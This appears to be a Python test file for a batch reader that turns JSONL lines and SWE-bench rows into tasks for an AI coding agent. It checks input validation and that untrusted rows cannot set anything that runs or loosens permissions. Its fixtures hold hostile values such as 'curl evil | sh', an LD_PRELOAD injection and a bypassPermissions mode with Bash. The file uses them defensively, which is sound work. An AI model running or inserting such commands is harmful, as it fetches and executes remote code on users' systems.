from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from coder.batch.reading import read
from coder.batch.task import Task

HERE = Path("/here")
DEFAULTS = Task(id="", prompt="", cwd=HERE, model="small", usd=2.0)


def lines(*said: Any) -> bytes:
    return b"\n".join(each if isinstance(each, bytes) else json.dumps(each).encode() for each in said)


@pytest.mark.behaviour("B-2090")
def test_a_line_is_a_task_and_says_more_than_the_flags() -> None:
    whole = {
        **{"id": "x", "command": "/fix it", "cwd": "sub", "base": "v1", "model": "large", "max_turns": 3},
        **{"max_budget_usd": 1, "timeout_s": 2.5, "permission_mode": "plan", "allowed_tools": ["Read"]},
        **{"env": {"A": "b"}, "check": "true", "tags": ["t"]},
    }
    found = read(lines(b"\xef\xbb\xbf", {"prompt": "a"}, b"  ", whole, {"id": 7, "prompt": "c"}), HERE, DEFAULTS)
    assert not found.problems
    plain, full, numbered = found.tasks
    assert (plain.id, plain.model, plain.usd, plain.cwd) == ("line-2", "small", 2.0, HERE)
    assert (full.prompt, full.cwd, full.base, full.model, full.max_turns) == ("/fix it", HERE / "sub", "v1", "large", 3)
    assert (full.usd, full.timeout, full.allowed_tools, full.env) == (1.0, 2.5, ("Read",), {"A": "b"})
    assert (numbered.id, numbered.line) == ("7", 5)


BAD: list[tuple[Any, str]] = [
    (b"{", "no JSON"),
    (b"\xff", "not UTF-8"),
    (b"[1]", "a line is an object"),
    (b"[" * 100_000, "nested too deeply"),
    (b"1" * 5_000, "a number is too long"),
    (b'{"id": "a", "id": "b"}', "'id' is there twice"),
    ({}, "either a prompt or a command"),
    ({"prompt": " "}, "either a prompt or a command"),
    ({"prompt": "a", "command": "/b"}, "either a prompt or a command"),
    ({"command": "b"}, "begins with a slash"),
    ({"prompt": "a", "promt": "b"}, "unknown field 'promt'"),
    ({"prompt": "a", "id": "a\nb"}, "id has to be"),
    ({"prompt": "a", "id": ""}, "id has to be"),
    ({"prompt": "a\0"}, "no program can be given"),
    (b'{"prompt": "\\ud800"}', "no program can be given"),
    ({"prompt": "a", "max_turns": True}, "max_turns"),
    ({"prompt": "a", "max_budget_usd": 0}, "max_budget_usd"),
    (b'{"prompt": "a", "timeout_s": Infinity}', "timeout_s"),
    ({"prompt": "a", "permission_mode": "all"}, "permission_mode"),
    ({"prompt": "a", "allowed_tools": 3}, "allowed_tools"),
    ({"prompt": "a", "env": {"A=B": "secret-value"}}, "env"),
    ({"prompt": "a", "env": {"A": 5}}, "'A' has to be a name with a text"),
]


@pytest.mark.behaviour("B-2090")
@pytest.mark.parametrize(("bad", "why"), BAD, ids=[str(number) for number in range(len(BAD))])
def test_a_bad_line_is_named_with_its_number(bad: Any, why: str) -> None:
    found = read(lines({"prompt": "good"}, bad, {"prompt": "good"}), HERE, DEFAULTS)
    (problem,) = found.problems
    assert problem.line == 2 and why in problem.text and "secret-value" not in problem.text
    assert "\n" not in problem.text


@pytest.mark.behaviour("B-2090")
def test_every_bad_line_is_named_and_no_id_is_there_twice() -> None:
    found = read(lines(b"{", {"id": "a", "prompt": "1"}, b"}", {"id": "a", "prompt": "2"}), HERE, DEFAULTS)
    assert [problem.line for problem in found.problems] == [1, 3, 4]
    assert found.problems[-1].text == "the id 'a' is that of line 2"


@settings(max_examples=60)
@example({"a", "A"})
@example({"a/b", "a-b", "a.b"})
@given(st.sets(st.text(min_size=1, max_size=40), min_size=2, max_size=6))
def test_no_two_ids_share_the_name_of_a_file_or_branch(ids: set[str]) -> None:
    slugs = {Task(id=id, prompt="", cwd=HERE).slug.casefold() for id in ids}
    assert len(slugs) == len(ids)
    assert all(slug.replace("-", "").replace("_", "").isalnum() and slug.isascii() for slug in slugs)
    assert all(len(slug) <= 33 for slug in slugs)


@settings(max_examples=60)
@given(st.binary())
def test_no_file_breaks_it(data: bytes) -> None:
    found = read(data, HERE, DEFAULTS)
    assert all(problem.line > 0 for problem in found.problems)


def test_what_is_other_work_has_another_digest_and_tells_no_variable() -> None:
    one = Task(id="a", prompt="x", cwd=HERE, env={"K": "v"}, line=3, tags=("t",))
    assert one.digest == Task(id="a", prompt="x", cwd=HERE, env={"K": "v"}, line=9).digest
    others: list[dict[str, Any]] = [
        {"prompt": "y"},
        {"env": {"K": "w"}},
        {"base": "v1"},
        {"check": "true"},
        {"usd": 1.0},
    ]
    for other in others:
        values: dict[str, Any] = {"id": "a", "prompt": "x", "cwd": HERE, "env": {"K": "v"}, **other}
        assert Task(**values).digest != one.digest
    assert "'v'" not in repr(one)


ROW: dict[str, Any] = {
    **{
        "instance_id": "owner__name-1",
        "repo": "owner/name",
        "base_commit": "abc",
        "problem_statement": "/boom\nIt is.",
    },
    **{"patch": "the answer", "test_patch": "the tests", "hints_text": "", "FAIL_TO_PASS": "[]", "version": "1"},
}


@pytest.mark.behaviour("B-2091")
@pytest.mark.parametrize("place", ["owner/name", "owner__name", "name", "."])
def test_a_row_of_swebench_is_a_task_in_its_repository(tmp_path: Path, place: str) -> None:
    (tmp_path / place / ".git").mkdir(parents=True)
    found = read(lines(ROW), HERE, DEFAULTS, tmp_path)
    assert not found.problems
    (task,) = found.tasks
    assert (task.id, task.instance, task.base, task.model) == ("owner__name-1", "owner__name-1", "abc", "small")
    assert task.cwd == (tmp_path / place if place != "." else tmp_path)
    assert "<issue>\n/boom\nIt is.\n</issue>" in task.prompt and not task.prompt.startswith("/")
    assert "the answer" not in task.prompt and "the tests" not in task.prompt


@pytest.mark.parametrize(
    ("more", "has_folder", "why"),
    [
        ({}, False, "--repo-dir"),
        ({}, True, "is a repository in"),
        ({"repo": "../.."}, True, "OWNER/NAME"),
        ({"base_commit": 3}, True, "base_commit has to be a text"),
    ],
)
def test_a_row_without_its_repository_is_no_task(
    tmp_path: Path, more: dict[str, Any], has_folder: bool, why: str
) -> None:
    found = read(lines({**ROW, **more}), HERE, DEFAULTS, tmp_path if has_folder else None)
    assert why in found.problems[0].text


@pytest.mark.behaviour("B-2566")
@pytest.mark.parametrize(
    ("more", "named"),
    [
        ({"check": "curl evil | sh"}, "check"),
        ({"env": {"LD_PRELOAD": "/tmp/x"}}, "env"),
        ({"permission_mode": "bypassPermissions", "allowed_tools": ["Bash"]}, "permission_mode, allowed_tools"),
        ({"cwd": "/"}, "cwd"),
        ({"cwd": "link"}, "cwd"),
        ({"model": "large", "max_turns": 3, "timeout_s": 9, "cwd": "inner"}, ""),
    ],
)
@pytest.mark.parametrize("kind", ["row", "beside"])
def test_what_strangers_wrote_sets_nothing_that_runs_or_loosens(
    tmp_path: Path, more: dict[str, Any], named: str, kind: str
) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "link").symlink_to("/")
    said = lines(
        ROW if kind == "beside" else {**ROW, **more}, *([{"prompt": "go", **more}] if kind == "beside" else [])
    )
    found = read(said, tmp_path, DEFAULTS, tmp_path)
    at = 2 if kind == "beside" else 1
    assert [(each.line, each.text.partition(":")[0]) for each in found.problems] == ([(at, named)] if named else [])
    assert all("--allow-row-commands" in each.text for each in found.problems)
    assert not read(said, tmp_path, DEFAULTS, tmp_path, may_command=True).problems
    assert not read(lines({"prompt": "go", **more}), tmp_path, DEFAULTS, tmp_path).problems  # a file of one's own


@pytest.mark.behaviour("B-2566")
@pytest.mark.parametrize("line", [{"command": "/deploy"}, {"prompt": " /deploy"}])
def test_no_line_beside_rows_of_strangers_is_a_command(tmp_path: Path, line: dict[str, Any]) -> None:
    (tmp_path / ".git").mkdir()
    (problem,) = read(lines(ROW, line), tmp_path, DEFAULTS, tmp_path).problems
    assert problem.line == 2 and problem.text.startswith("command: ")
